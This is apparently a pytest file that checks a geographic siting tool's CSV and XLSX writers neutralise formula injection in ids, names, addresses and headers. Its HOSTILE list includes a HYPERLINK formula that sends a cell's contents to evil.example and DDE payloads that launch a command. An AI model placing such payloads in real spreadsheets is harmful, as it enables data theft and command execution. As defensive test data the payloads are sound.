"""Shared tables cannot run formulas: hostile ids, names and addresses in CSV and XLSX outputs.

The checks read outputs the way a spreadsheet does: the raw CSV fields (a field
whose first character is ``= + - @``, tab or CR and which is not a plain number is
run as a formula), and the XLSX cells with openpyxl (a formula is a cell of type
``f``).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from layers.output import write_csv, write_xlsx
from siting.cli import app

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]

_NUMBER = re.compile(r"[+-]?(\d[\d,]*)?(\.\d+)?([eE][+-]?\d+)?")


def _spreadsheet_runs(field: str) -> bool:
    """What Excel does with a CSV field: a leading = + - @ TAB CR starts a formula
    unless the field is a plain number."""
    if not field or field[0] not in "=+-@\t\r":
        return False
    return not (any(c.isdigit() for c in field) and _NUMBER.fullmatch(field))


def _csv_fields(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _hostile_table() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "candidate_id": HOSTILE,
            "name": [f"{h} 가로등" if i % 2 else h for i, h in enumerate(HOSTILE)],
            "address": ["@서울 중구 세종대로 110"] + ["서울 성북구"] * (n - 1),
            "cost_krw": [-5_000_000] + [5_000_000] * (n - 1),
            "text_number": ["-12.5"] * n,
        }
    )


def test_csv_prefixes_formula_text_and_keeps_numbers(tmp_path: Path) -> None:
    table = _hostile_table()
    path = write_csv(table, tmp_path / "t.csv")
    header, *rows = _csv_fields(path)
    assert header == list(table.columns)
    assert not any(_spreadsheet_runs(f) for row in rows for f in row)
    for row, original in zip(rows, HOSTILE, strict=True):
        assert row[0] == "'" + original.replace("\r", "\n")  # shown as the text it was
    assert rows[0][3] == "-5000000" and rows[0][4] == "-12.5"  # numbers stay numbers
    assert rows[0][2] == "'@서울 중구 세종대로 110"
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["cost_krw"].dtype.kind == "i"


def test_xlsx_stores_hostile_text_as_text(tmp_path: Path) -> None:
    table = _hostile_table()
    path = write_xlsx({"sites": table}, tmp_path / "t.xlsx")
    cells = _xlsx_cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = openpyxl.load_workbook(path)["sites"]
    ids = [sheet.cell(row=r, column=1).value for r in range(3, 3 + len(HOSTILE))]
    assert ids == [h.replace("\r", "\n") for h in HOSTILE]  # as typed (XML reads CR as LF)
    assert all(sheet.cell(row=r, column=1).quotePrefix for r in range(3, 3 + len(HOSTILE)))
    assert sheet.cell(row=3, column=4).value == -5_000_000
    assert sheet.cell(row=3, column=4).data_type == "n"


def test_hostile_header_names_are_neutralised(tmp_path: Path) -> None:
    table = pd.DataFrame({"=cmd()": ["a"], "ok": [1]})
    header = _csv_fields(write_csv(table, tmp_path / "h.csv"))[0]
    assert header == ["'=cmd()", "ok"]
    cells = _xlsx_cells(write_xlsx({"s": table}, tmp_path / "h.xlsx"))
    assert not [c for c in cells if c.data_type == "f"]


def test_control_characters_do_not_break_the_workbook(tmp_path: Path) -> None:
    table = pd.DataFrame({"name": ["a\x00b\x1bc", "=x\x07"]})
    sheet = openpyxl.load_workbook(write_xlsx({"s": table}, tmp_path / "c.xlsx"))["s"]
    assert sheet["A3"].value == "a\ufffdb\ufffdc"
    assert sheet["A4"].data_type == "s"


_X0, _Y0 = 201_700.0, 555_200.0  # inside 성북구 (EPSG:5186, m)


@pytest.mark.slow
def test_propose_with_hostile_candidate_ids(tmp_path: Path) -> None:
    """A candidate layer whose ids, names and addresses are formulas, through the real command."""
    offsets = [(100, 100), (400, 100), (700, 500)]
    lines = ["candidate_id,name,address,x,y"]
    for i, (a, b) in enumerate(offsets):
        ident = HOSTILE[i].replace('"', '""')
        lines.append(f'"{ident}","{HOSTILE[-1]}","@{i} 성북구",{_X0 + a},{_Y0 + b}')
    cand = tmp_path / "cand.csv"
    cand.write_text("\n".join(lines) + "\n", encoding="utf-8")
    demand = tmp_path / "demand.csv"
    demand.write_text(
        "x,y,weight\n" + "\n".join(f"{_X0 + a},{_Y0 + b},3" for a, b in offsets) + "\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = CliRunner().invoke(
        app,
        ["propose", "--device", "cctv", "--count", "3", "--candidates", str(cand),
         "--demand", str(demand), "--crs", "EPSG:5186", "--out", str(out)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    written = sorted(out.rglob("*.csv"))
    assert written
    seen_ids = set()
    for path in written:
        for row in _csv_fields(path):
            assert not [f for f in row if _spreadsheet_runs(f)], (path.name, row)
            seen_ids |= {f for f in row if f.startswith("'")}
    assert {"'" + h for h in HOSTILE[:3]} <= seen_ids  # the ids are there, as text
    for path in out.rglob("*.xlsx"):
        assert not [c for c in _xlsx_cells(path) if c.data_type == "f"]


_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)),
    max_size=30,
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(values=st.lists(_text, min_size=1, max_size=5))
def test_any_text_written_is_never_a_formula(tmp_path: Path, values: list[str]) -> None:
    table = pd.DataFrame({"text": values, "n": range(len(values))})
    path = write_csv(table, tmp_path / "p.csv")
    _, *rows = _csv_fields(path)
    for row, original in zip(rows, values, strict=True):
        assert not _spreadsheet_runs(row[0])
        # nothing is lost: the field is the text, or the text behind one quote
        shown = original.replace("\r\n", "\n").replace("\r", "\n")
        assert row[0] in (shown, "'" + shown)
    book = write_xlsx({"s": table}, tmp_path / "p.xlsx")
    sheet = openpyxl.load_workbook(book)["s"]
    for r in range(3, 3 + len(values)):
        cell = sheet.cell(row=r, column=1)
        assert cell.data_type != "f"
        assert cell.value is None or isinstance(cell.value, str)
